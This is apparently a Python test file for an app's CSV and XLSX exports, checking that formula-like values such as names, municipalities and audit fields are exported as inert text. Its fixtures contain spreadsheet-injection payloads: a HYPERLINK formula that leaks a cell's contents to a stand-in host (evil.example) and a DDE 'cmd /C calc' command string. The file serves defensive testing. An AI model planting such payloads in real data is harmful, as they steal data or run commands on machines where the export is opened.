"""Every CSV and XLSX export keeps hostile text inert, on both databases (docs/domain.md §9)."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from app.models import Organisation, PopulationFigure
from app.models.enums import Role
from app.services.compensation.payouts import close_batch, create_batch, fill_batch
from app.services.exports import csv_text, is_formula_like, xlsx_bytes
from app.services.privacy.audit import record_audit
from tests.compensation_support import attested_claim
from tests.pool_support import signed_in

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+46 70 123 45 67"


def _csv_cells(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def _assert_inert_csv(body: bytes, *hostile: str) -> None:
    cells = [cell for row in _csv_cells(body) for cell in row]
    assert [cell for cell in cells if is_formula_like(cell)] == []
    for text in hostile:
        assert "'" + text in cells


def _assert_text_cells(body: bytes, *hostile: str) -> None:
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    found = {c.value: (c.data_type, c.quotePrefix) for c in cells if c.value in hostile}
    assert found == {text: ("s", True) for text in hostile}


# --- the helper itself ---------------------------------------------------------------------


def test_csv_cells_starting_like_a_formula_get_an_apostrophe_and_numbers_stay():
    rows = [["=1+2", "+46 70", "-x", "@A1", "\tcmd", "\r=1", "-5", "+3,5", 7, None, "Anna"]]

    assert csv_text(rows) == "'=1+2;'+46 70;'-x;'@A1;'\tcmd;\"'\r=1\";-5;+3,5;7;;Anna\r\n"


def test_xlsx_strings_are_text_cells_and_numbers_stay_numbers():
    body = xlsx_bytes("Sheet", [["name", "fee"], [HYPERLINK, 1200], ["-7", -7]])

    sheet = load_workbook(io.BytesIO(body)).active
    cells = [(c.value, c.data_type) for row in sheet.iter_rows() for c in row]
    assert cells == [
        ("name", "s"),
        ("fee", "s"),
        (HYPERLINK, "s"),
        (1200, "n"),
        ("-7", "s"),
        (-7, "n"),
    ]


# --- payout, payer and settlement ------------------------------------------------------------


@pytest.fixture
def hostile_batch(factory, db_session):
    """A closed batch whose member and organisation have formula-like names."""
    claim, member, orderer, council = attested_claim(factory, db_session)
    member.first_name = HYPERLINK
    db_session.get(Organisation, orderer.organisation_id).name = AT_SUM
    db_session.flush()
    batch = create_batch(
        session=db_session, actor=council, day=date(2026, 5, 20), frequency="monthly"
    )
    fill_batch(session=db_session, batch_id=batch.id)
    close_batch(session=db_session, batch_id=batch.id, actor=council)
    return batch, member


@pytest.fixture
def council(app, factory):
    client, _ = signed_in(app, factory, Role.COUNCIL)
    return client


@pytest.mark.parametrize("name", ["payout.csv", "payer.csv"])
def test_batch_csv_exports_neutralise_a_hostile_name(council, hostile_batch, name):
    batch, member = hostile_batch

    response = council.get(f"/compensation/batches/{batch.id}/{name}")

    assert response.status_code == 200
    _assert_inert_csv(response.data, member.display_name)


def test_payout_csv_neutralises_a_hostile_organisation(council, hostile_batch):
    batch, _ = hostile_batch

    response = council.get(f"/compensation/batches/{batch.id}/payout.csv")

    _assert_inert_csv(response.data, AT_SUM)


@pytest.mark.parametrize("name", ["payout.xlsx", "payer.xlsx"])
def test_batch_xlsx_exports_write_a_hostile_name_as_text(council, hostile_batch, name):
    batch, member = hostile_batch

    response = council.get(f"/compensation/batches/{batch.id}/{name}")

    assert response.status_code == 200
    _assert_text_cells(response.data, member.display_name)


def test_settlement_csv_neutralises_hostile_names(council, hostile_batch):
    _, member = hostile_batch

    response = council.get("/compensation/settlement.csv?year=2026")

    assert response.status_code == 200
    _assert_inert_csv(response.data, member.display_name, AT_SUM)


# --- insight, population, audit, import templates ----------------------------------------------


def test_insight_csv_neutralises_a_hostile_municipality(council, factory):
    for _ in range(6):
        factory.member(municipality=HYPERLINK)

    response = council.get(
        "/council/insight/pool_municipalities.csv?start=2026-01-01&end=2026-06-30"
    )

    assert response.status_code == 200
    _assert_inert_csv(response.data, HYPERLINK)


def test_population_csv_neutralises_a_hostile_municipality(council, db_session):
    db_session.add(
        PopulationFigure(age_band="18–34", gender="woman", municipality=PLUS, people=10, source="")
    )
    db_session.flush()

    response = council.get("/council/insight/population.csv")

    assert response.status_code == 200
    _assert_inert_csv(response.data, PLUS)


def test_audit_csv_neutralises_hostile_text(council, db_session):
    record_audit(session=db_session, actor_id=None, action="member.updated", subject_type=AT_SUM)
    db_session.flush()

    response = council.get("/audit/export.csv")

    assert response.status_code == 200
    _assert_inert_csv(response.data, AT_SUM)


def test_import_templates_are_inert_text(council):
    csv_body = council.get("/council/import/template.csv").data
    xlsx_body = council.get("/council/import/template.xlsx").data

    cells = list(csv.reader(io.StringIO(csv_body.decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(xlsx_body)).active
    assert [c for row in cells for c in row if is_formula_like(c)] == []
    assert {c.data_type for row in sheet.iter_rows() for c in row if c.value is not None} == {"s"}
